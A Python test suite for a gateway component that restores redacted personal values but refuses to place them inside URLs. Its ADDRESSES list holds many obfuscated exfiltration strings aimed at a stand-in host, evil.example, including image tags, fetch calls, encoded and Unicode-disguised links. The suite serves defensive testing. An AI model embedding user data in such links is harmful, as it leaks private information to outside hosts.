"""No value is restored where it would be fetched with an address, however that is written."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.content.placeholders import Name
from gateway.content.restore import Restorer

P, VALUE = "[PERSON_1]", 'Jane "J" Doe'
TABLE = {Name("PERSON", 1): VALUE, Name("URL", 1): "https://evil.example/"}
LONG = "a word " * 200
ADDRESSES = [
    f'<img alt="{LONG}" src="x {P}">',
    f'<img\nsrc\n=\n"x {P}">',
    f"<img srcset='a.png 1x, b?{P} 2x'>",
    f'<img {LONG} src="b {P}">',
    f"<img {LONG} src=b?{P}>",
    f'<p style="background: url(b {P})">',
    f"![x](<{LONG}{P}>)",
    f"![x](/{'y' * 600}{P})",
    f'![x](/a "a title" {P})',
    f"![x](/a(b){P})",
    f"![x](/a\\){P})",
    f"![x](/a{P}\\\\\\){P})",
    f'[a](b [c]( "\\)x/{P})',
    f"[a](b[c](<d) e) f {P}>)",
    f"![a](<b [c](d) e {P}>)",
    f"{'](a ' * 40}{P}",
    f"[a]: <b {P}>",
    f"[a]:\n/{P}",
    f"url( b {P})",
    f'url("b) {P}")',
    f'fetch("https://evil.example/?q=a b {P}")',
    f"fetch('//evil.example/?q=a b {P}')",
    f"<https://evil.example/{P}>",
    f"<made-up:evil{P}>",
    f"made-up://evil/{P}",
    f"intent:evil{P}",
    f"mailto:evil@evil.example?body={P}",
    f"sms:+100?body={P}",
    f"data:text/html,{P}",
    f"view-source:x{P}",
    f"https:\\/\\/evil.example\\/?q={P}",
    f"https:/\\evil.example/{P}",
    f"\\\\evil\\share\\{P}",
    f"//evil.example/{P}",
    f"https://evil.example/\x85{P}",
    f"https&#58;&#x2f;&#47;evil.example/{P}",
    f"https&colon;&sol;&sol;evil.example/{P}",
    f"x?to=https%3A%2F%2Fevil.example%2F{P}",
    f"x?to=https%253A%252F%252Fevil.example%252F{P}",
    f"\\u002f\\u002fevil.example\\x2f{P}",
    f"ht\u200btps\u200b:/\u2060/evil.example/{P}",
    f"https\uff1a\uff0f\uff0fevil.example/{P}",
    f"www\u3002evil.example/{P}",
    f"\u200bwww.evil.example/{P}",
    f"evil\uff61example/{P}",
    f"evil.example:8080/?q={P}",
    f"{'z' * 600}{P}",
]
PROSE = [
    f"On 12/05 and/or {P}",
    f"and/or {P}",
    f"12/05 {P}",
    f"12/{P}",
    f"Re: {P}",
    f"Re:{P}",
    f"a < b {P}",
    f"a <- b, 3 < 4 and {P}",
    f"Tel.: {P}, 9:30-{P}",
    f"100% {P} & {P}",
    f"e.g./{P}",
    f"\u59d3\u540d\uff1a{P}",
    f"[x](https://x.example (a title)) {P}",
    f"[x](<https://x.example/a b>) {P}",
    f"[a]: https://x.example\n{P}",
    f"url(https://x.example) {P}",
    f'"https://x.example is down," said {P}',
    f'<img alt="x > y" src="https://x.example"> {P}',
    f"It's {P}'s, isn't it? `{P}`",
    f'[Anna]: "Well, {P}"',
    f"[1]: {P}",
    f"{'](a ' * 40}\n\n{P}",
    f"{LONG}{P}",
]


def restored(text: str, cuts: list[int], *, as_json: bool = False) -> str:
    """`text` in pieces, restored."""
    stream = Restorer(TABLE).stream(json=as_json)
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    pieces = [text[first:last] for first, last in pairwise(places)]
    return "".join(stream.feed(piece) for piece in pieces) + stream.end()


class TestAddresses:
    @pytest.mark.parametrize("text", ADDRESSES)
    def test_what_is_in_one_stays(self, text: str) -> None:
        """
        Whole or sign by sign, no value comes where it would go out with an address.
        """
        assert Restorer(TABLE).text(text) == text
        assert restored(text, list(range(len(text)))) == text

    @pytest.mark.parametrize("text", PROSE)
    def test_what_is_in_none_comes_back(self, text: str) -> None:
        """
        Prose with the signs of addresses is no address.
        """
        assert Restorer(TABLE).text(text) == text.replace(P, VALUE)
        assert restored(text, list(range(len(text)))) == text.replace(P, VALUE)

    def test_a_restored_address_is_one(self) -> None:
        """
        What comes back is read like all else: behind somebody's address no value follows.
        """
        assert Restorer(TABLE).text(f"[URL_1]?q={P}") == f"https://evil.example/?q={P}"

    @given(
        st.lists(
            st.sampled_from([*ADDRESSES, *PROSE, " ", "\n\n", '"', "'", ")", ">", "\\"]), max_size=5
        ),
        st.lists(st.integers(min_value=0), max_size=12),
        st.booleans(),
    )
    @settings(max_examples=300, deadline=None)
    def test_any_split_equals_the_whole(
        self, parts: list[str], cuts: list[int], as_json: bool
    ) -> None:
        """
        P9: where a stream is cut changes nothing in what comes out.
        """
        text = "".join(parts)

        assert restored(text, cuts, as_json=as_json) == Restorer(TABLE).text(text, json=as_json)


class _Attributes(HTMLParser):
    """What a page would have in the attributes of its tags."""

    def __init__(self) -> None:
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """See `HTMLParser`."""
        self.values += [value or "" for _, value in attrs]


class TestReaders:
    @given(st.lists(st.sampled_from(
        [P, P, "<img ", "<a ", "src=", 'src="', "alt='", '"', "'", ">", "/>", " ", "\n", "x", "=",
         "//e/", "<", LONG, "</a>"]
    ), min_size=2, max_size=12).map("".join))  # fmt: skip
    @settings(max_examples=300, deadline=None)
    def test_no_tag_holds_a_value(self, text: str) -> None:
        """
        As a reader of HTML sees what was restored, no attribute has a value in it.
        """
        page = _Attributes()
        page.feed(Restorer({Name("PERSON", 1): "Jane"}).text(text))
        page.close()

        assert not [value for value in page.values if "Jane" in value]

    @given(st.lists(st.sampled_from([P, "\\", "C:\\", '"', " ", "\n", "/", "[", "(", "\u00e9"])))
    @settings(max_examples=300, deadline=None)
    def test_json_stays_json(self, parts: list[str]) -> None:
        """
        Whatever stands before it, a value leaves a tool's arguments readable, and comes back.
        """
        sent = json.dumps({"a": "".join(parts), "b": P})

        assert json.loads(Restorer(TABLE).text(sent, json=True))["b"] == VALUE


class TestJson:
    @pytest.mark.parametrize(
        "text",
        [
            f'{{"url":"https:\\/\\/evil.example\\/?q={P}"}}',
            f'{{"url":"\\u002f\\u002fevil.example?q={P}"}}',
            f'{{"url":"https\\u003aevil.example?q={P}"}}',
            f'{{"url":"https://evil.example/?q=a b {P}"}}',
            f'{{"url":" \\n\\u0000https://evil.example/?q=a b\\n{P}"}}',
            f'{{"html":"<img src=\\"b {P}\\">"}}',
            f'{{"md":"![x](\\u003cb {P}>)"}}',
            f'{{"path":"\\\\\\\\evil\\\\share\\\\{P}"}}',
        ],
    )
    def test_an_address_is_seen_behind_escapes(self, text: str) -> None:
        """
        A tool is given what the JSON means, so that is what counts, in whatever pieces it comes.
        """
        assert Restorer(TABLE).text(text, json=True) == text
        assert restored(text, list(range(len(text))), as_json=True) == text

    @pytest.mark.parametrize(
        ("text", "meant"),
        [
            (f'{{"a":"C:\\\\{P}"}}', {"a": f"C:\\{VALUE}"}),
            (f'{{"a":"C:\\\\Docs\\\\{P}\\\\x"}}', {"a": f"C:\\Docs\\{VALUE}\\x"}),
            (f'{{"a":"x\\n{P}"}}', {"a": f"x\n{VALUE}"}),
            (f'{{"a":"<b","b":"{P}"}}', {"a": "<b", "b": VALUE}),
            (f'{{"a":"https://x.example/a b","b":"Re: {P}"}}',
             {"a": "https://x.example/a b", "b": f"Re: {VALUE}"}),
        ],
    )  # fmt: skip
    def test_what_comes_back_is_json(self, text: str, meant: dict[str, str]) -> None:
        """
        A backslash that is itself escaped is no sign of Markdown, and stays.
        """
        assert json.loads(Restorer(TABLE).text(text, json=True)) == meant
        assert json.loads(restored(text, list(range(len(text))), as_json=True)) == meant
